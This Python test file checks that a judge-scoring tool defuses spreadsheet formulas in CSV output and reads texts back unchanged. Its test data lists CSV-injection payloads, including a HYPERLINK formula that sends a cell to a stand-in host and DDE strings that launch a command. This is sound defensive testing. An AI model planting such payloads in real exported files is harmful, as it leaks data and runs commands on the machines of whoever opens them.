"""No text of an item, a judge or a model is a formula in a file of scores, and each is read back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from alia_judge.cli._scores_file import score_row, scores_file
from alia_judge.evaluation import read_scores
from alia_judge.records import Scale
from alia_judge.text.spreadsheet import as_meant, defused

FORMULAS = [
    '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_column_of_written_scores(tmp_path: Path, formula: str) -> None:
    row = score_row(
        {formula: formula, "response": formula},
        item_id=formula, judge=formula, criterion="c", score=-0.5, detail=formula, text=formula,
    )  # fmt: skip
    with scores_file(tmp_path / "s.csv") as file:
        file.write([row])
    with (tmp_path / "s.csv").open(encoding="utf-8", newline="") as stream:
        head, cells = csv.reader(stream)
    assert not [cell for cell in (*head, *cells) if cell[:1] in tuple("=+@\t\r\n＝") or cell.startswith("-2")]
    assert "-0.5" in cells, "a number stays one"
    (item,) = read_scores(tmp_path / "s.csv", scales={"c": Scale.continuous(-1, 1)}).judges("c")[formula].items()
    assert item == (formula, -0.5)


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.sampled_from("'=+-@\t\r\na1. ")))
def test_whatever_is_written_is_read_as_it_was(text: str) -> None:
    written = defused(text)
    assert as_meant(written) == text
    assert not written or written[0] not in "=+-@\t\r\n" or _number(written)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_other_kinds_of_files_hold_texts_as_they_are(tmp_path: Path) -> None:
    with scores_file(tmp_path / "s.jsonl") as file:
        file.write([score_row({}, item_id="=1+1", judge="'=j", criterion="c", score=1.0)])
    assert read_scores(tmp_path / "s.jsonl", scales={"c": Scale.ordinal(1, 5)}).judges("c") == {"'=j": {"=1+1": 1.0}}
